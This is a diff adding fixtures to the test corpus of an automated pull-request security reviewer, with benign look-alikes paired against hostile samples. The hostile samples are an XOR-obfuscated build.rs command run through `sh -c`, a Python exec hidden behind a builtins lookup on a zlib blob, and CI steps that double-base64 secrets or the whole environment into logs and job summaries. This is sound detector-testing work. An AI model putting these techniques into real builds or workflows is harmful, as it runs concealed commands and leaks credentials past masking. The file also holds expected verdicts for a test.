@@ -3,6 +3,7 @@ import type { FixtureFile, PrFixture } from '../../support/pr-fixture.js';
 import { makePrFixture } from '../../support/pr-fixture.js';
 import type { CorpusEntry } from '../helpers.js';
 import { daysAgo, lines, nodeCi } from '../helpers.js';
+import { ciWorkflow } from './ci.js';
 
 interface CodePr {
   readonly repo: string;
@@ -1366,6 +1367,214 @@ export const CODE_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['auth-check-removed'] },
+  },
+  {
+    id: 'code-build-rs-xor-payload-to-shell',
+    description:
+      'Modeled on the malicious crates of 2024-2025 whose build.rs hid its command: a first-time contributor\'s "Speed up builds with a cached codegen" adds a build.rs that keeps a byte array, XORs it back into text and hands it to `sh -c` through a builder chain over three lines. No decoder name, no URL and no shell string is in the source for a reader to see.',
+    fixture: () =>
+      codePr({
+        repo: 'termlog',
+        number: 3931,
+        title: 'Speed up builds with a cached codegen',
+        author: 'newcomer',
+        files: [
+          { path: 'Cargo.toml', base: lines('[package]', 'name = "termlog"', 'version = "0.4.2"', 'edition = "2021"'), head: lines('[package]', 'name = "termlog"', 'version = "0.4.2"', 'edition = "2021"', 'build = "build.rs"') },
+          {
+            path: 'build.rs',
+            head: lines(
+              'use std::process::Command;',
+              '',
+              'const TABLE: [u8; 14] = [0x2f, 0x39, 0x3e, 0x20, 0x6c, 0x61, 0x3f, 0x6c, 0x24, 0x38, 0x38, 0x3c, 0x3f, 0x76];',
+              '',
+              'fn main() {',
+              '    println!("cargo:rerun-if-changed=build.rs");',
+              '    let cache: String = TABLE.iter().map(|b| (b ^ 0x4c) as char).collect();',
+              '    let _ = Command::new("sh")',
+              '        .arg("-c")',
+              '        .arg(&cache)',
+              '        .status();',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'], drivers: ['finding:build-code-behavior'] },
+  },
+  {
+    id: 'code-build-rs-git-hash-quiet',
+    description: 'The benign look-alike: a member adds a build.rs that asks git for the commit (`Command::new("git").args(["rev-parse", "--short", "HEAD"])`) and pkg-config for a library, and passes them to the compiler as `rustc-env`. A new build script is worth a look (cargo-build-script), nothing is decoded or handed to a shell.',
+    fixture: () =>
+      codePr({
+        repo: 'termlog',
+        number: 3932,
+        title: 'Show the commit in --version',
+        files: [
+          { path: 'Cargo.toml', base: lines('[package]', 'name = "termlog"', 'version = "0.4.2"', 'edition = "2021"'), head: lines('[package]', 'name = "termlog"', 'version = "0.4.2"', 'edition = "2021"', 'build = "build.rs"') },
+          {
+            path: 'build.rs',
+            head: lines(
+              'use std::process::Command;',
+              '',
+              'fn main() {',
+              '    println!("cargo:rerun-if-changed=.git/HEAD");',
+              '    let out = Command::new("git")',
+              '        .args(["rev-parse", "--short", "HEAD"])',
+              '        .output()',
+              '        .expect("git");',
+              '    let hash = String::from_utf8_lossy(&out.stdout);',
+              '    println!("cargo:rustc-env=GIT_HASH={}", hash.trim());',
+              '    pkg_config::probe_library("zlib").unwrap();',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
+  },
+  {
+    id: 'code-python-exec-through-builtins-namespace',
+    description:
+      'Modeled on the PyPI droppers that keep `exec(` off the line: a first-time contributor\'s "Lazy-load color themes" adds to the package\'s `__init__.py` a lookup of exec in the builtins namespace by its name and runs a zlib-packed blob through it (`getattr(builtins, "exec")(zlib.decompress(…))`). No `exec(` for a search to find, no decoder for the decode-and-run rule.',
+    fixture: () =>
+      codePr({
+        repo: 'colorfmt',
+        number: 3933,
+        title: 'Lazy-load color themes',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'colorfmt/__init__.py',
+            base: lines('from .core import colorize, strip', '', '__all__ = ["colorize", "strip"]', '__version__ = "2.3.1"'),
+            head: lines(
+              'import builtins',
+              'import zlib',
+              '',
+              'from .core import colorize, strip',
+              '',
+              '__all__ = ["colorize", "strip"]',
+              '__version__ = "2.3.1"',
+              '',
+              '_THEMES = b"x\\x9c\\xcbH\\xcd\\xc9\\xc9W(\\xcf/\\xcaI\\x01\\x00\\x1a\\x0b\\x04]"',
+              '_load = getattr(builtins, "exec")',
+              '_load(zlib.decompress(_THEMES))',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'], drivers: ['finding:obfuscated-code'] },
+  },
+  {
+    id: 'code-python-plugin-getattr-quiet',
+    description: 'The benign look-alike: a member adds a plugin registry that imports each configured module, takes its `register` function with `getattr` by a constant name and calls it, and compiles the name pattern with `re.compile`. Nothing is looked up in the builtins namespace and no text is run as code.',
+    fixture: () =>
+      codePr({
+        repo: 'colorfmt',
+        number: 3934,
+        title: 'Load theme plugins from entry points',
+        files: [
+          {
+            path: 'colorfmt/plugins.py',
+            head: lines(
+              'import importlib',
+              'import re',
+              '',
+              '_NAME = re.compile(r"^[a-z][a-z0-9_]*$")',
+              '',
+              '',
+              'def load_plugins(names):',
+              '    for name in names:',
+              '        if not _NAME.match(name):',
+              '            raise ValueError(f"bad plugin name: {name}")',
+              '        module = importlib.import_module(f"colorfmt_themes.{name}")',
+              '        register = getattr(module, "register", None)',
+              '        if register is not None:',
+              '            register()',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:obfuscated-code'] },
+  },
+  {
+    id: 'code-secret-double-base64-into-job-summary',
+    description:
+      'Modeled on the tj-actions/changed-files payload of March 2025, which printed the runner\'s secrets base64-encoded twice where GitHub\'s masking does not recognize them: a "ci: add a publish summary" PR writes `echo "$(echo $TOKEN | base64 | base64)"` into `$GITHUB_STEP_SUMMARY`, shown on the run\'s page to anyone who can read the repository\'s runs.',
+    fixture: () =>
+      codePr({
+        repo: 'pathdiff',
+        number: 3935,
+        title: 'ci: add a publish summary',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: ['      - name: Publish summary', '        env:', '          TOKEN: ${{ secrets.NPM_TOKEN }}', '        run: |', '          echo "## Publish" >> $GITHUB_STEP_SUMMARY', '          echo "$(echo $TOKEN | base64 | base64)" >> $GITHUB_STEP_SUMMARY'] }),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'code-ci-script-prints-environment-double-base64',
+    description:
+      'The same payload moved into a script the workflow runs, where no workflow rule reads it: a "ci: report the runner environment on failure" PR adds `scripts/ci/diagnose.sh`, whose `env | base64 -w0 | base64 -w0` prints every secret the step can see, encoded twice, into the log, and a step that runs it.',
+    fixture: () =>
+      codePr({
+        repo: 'pathdiff',
+        number: 3936,
+        title: 'ci: report the runner environment on failure',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: ['      - name: Diagnose', '        if: failure()', '        run: bash scripts/ci/diagnose.sh'] }),
+          },
+          { path: 'scripts/ci/diagnose.sh', head: lines('#!/usr/bin/env bash', 'set -euo pipefail', 'echo "node $(node --version), npm $(npm --version)"', 'df -h .', 'env | base64 -w0 | base64 -w0') },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-logged'] },
+  },
+  {
+    id: 'code-action-prints-environment-double-base64',
+    description:
+      'The tj-actions/changed-files payload of March 2025 written in the action\'s own TypeScript: a "log inputs for debugging" PR to a JavaScript GitHub Action encodes `process.env` (every secret the calling workflow gave the step) to base64, then encodes that again and prints it with `core.info`, where the runner\'s masking does not recognize it.',
+    fixture: () =>
+      codePr({
+        repo: 'pathdiff-action',
+        number: 3938,
+        title: 'Log inputs for debugging',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/main.ts',
+            base: lines("import * as core from '@actions/core';", '', 'export async function run(): Promise<void> {', "  const base = core.getInput('base');", '  core.setOutput(\'changed\', await changedFiles(base));', '}'),
+            head: lines("import * as core from '@actions/core';", '', 'export async function run(): Promise<void> {', "  const base = core.getInput('base');", "  const state = Buffer.from(JSON.stringify(process.env)).toString('base64');", "  core.info(`debug: ${Buffer.from(state).toString('base64')}`);", '  core.setOutput(\'changed\', await changedFiles(base));', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-logged'] },
+  },
+  {
+    id: 'code-job-summary-coverage-quiet',
+    description: 'The benign look-alike: a member adds a job summary with the coverage table and the commit, and a diagnostics script that prints the tool versions and the environment\'s names sorted (GitHub masks the values of secrets printed plainly). Nothing secret is encoded.',
+    fixture: () =>
+      codePr({
+        repo: 'pathdiff',
+        number: 3937,
+        title: 'ci: add a coverage summary',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: ['      - name: Coverage summary', '        run: |', '          echo "## Coverage for $(git rev-parse --short HEAD)" >> $GITHUB_STEP_SUMMARY', '          cat coverage/summary.md >> "$GITHUB_STEP_SUMMARY"', '      - run: bash scripts/ci/diagnose.sh'] }),
+          },
+          { path: 'scripts/ci/diagnose.sh', head: lines('#!/usr/bin/env bash', 'set -euo pipefail', 'echo "node $(node --version), npm $(npm --version)"', 'env | cut -d= -f1 | sort') },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:secret-logged', 'finding:gha-secrets-exfiltration'] },
   },
   {
     id: 'code-rails-devise-controller-condition-quiet',
